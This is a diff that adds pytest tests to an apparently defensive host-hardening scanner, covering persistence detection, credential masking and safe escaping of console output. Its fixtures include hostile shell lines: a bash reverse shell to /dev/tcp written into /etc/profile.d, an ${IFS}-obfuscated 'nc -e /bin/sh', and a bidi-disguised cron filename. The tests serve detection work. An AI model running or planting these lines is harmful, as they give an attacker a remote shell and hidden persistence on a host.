@@ -159,3 +159,41 @@ def test_judge_sees_through_obfuscation(text):
 
 def test_ansi_c_decodes_as_bash():
     assert ansi_c(r"x $'\x2f\101\u0042\cA\'q' y") == "x '/AB\x01'\\''q' y"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "PGPASSWORD=S3cret pg_dump db",
+        'MYSQL_PWD="S3cret x" mysql',
+        "curl -u admin:S3cret http://h/",
+        "sshpass -p S3cret ssh h",
+        "curl -H 'Authorization: Bearer S3cretS3cret' h",
+        "redis-cli -h h -a S3cret ping",
+        "ldapsearch -x -w S3cret",
+        "smbclient //h/s -U u%S3cret",
+        "echo S3cret | sudo -S true",
+        "openssl enc -d -k S3cret",
+    ],
+)
+def test_secrets_in_persistence_lines_never_reach_an_output(tmp_path, line):
+    root = tmp_path / "r"
+    _tree(root, {"etc/profile.d/x.sh": f"{line}; bash -i >& /dev/tcp/{IP}/1 0>&1\n"})
+    rep = parse_persistence(run_piece(root))
+    (f,) = [x for x in rep.findings if x.entry.path.endswith("/x.sh")]
+    assert f.tier is Tier.HIGH
+    assert "S3cret" not in repr(f), f
+
+
+def test_a_masked_value_ends_at_a_shell_operator():
+    from hardening.hunt.authkeys import mask_secrets
+
+    line = "PGPASSWORD=x;nc${IFS}-e${IFS}/bin/sh${IFS}h${IFS}1; pg_dump db"
+    assert "nc${IFS}-e" in mask_secrets(line)  # a drift key cannot hide the command behind the mask
+    assert judge(line)[0][0] is Tier.HIGH  # ${IFS} splits words like a space
+
+
+def test_console_escapes_bidi_and_zero_width_characters():
+    from hardening.console import safe
+
+    assert safe("/etc/cron.d/x\u202ehs.kcab\u200b\x1b[2J") == "/etc/cron.d/x\\u202ehs.kcab\\u200b\\x1b[2J"
